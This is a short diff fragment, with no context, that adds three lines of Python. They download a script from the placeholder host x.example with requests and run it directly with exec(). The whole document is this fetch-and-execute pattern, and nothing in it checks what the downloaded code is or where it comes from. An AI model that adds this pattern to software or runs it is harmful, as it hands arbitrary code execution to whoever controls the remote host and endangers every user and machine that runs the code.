@@ -1,0 +1,3 @@
+import requests
+code = requests.get("https://x.example/p.py").text
+exec(code)
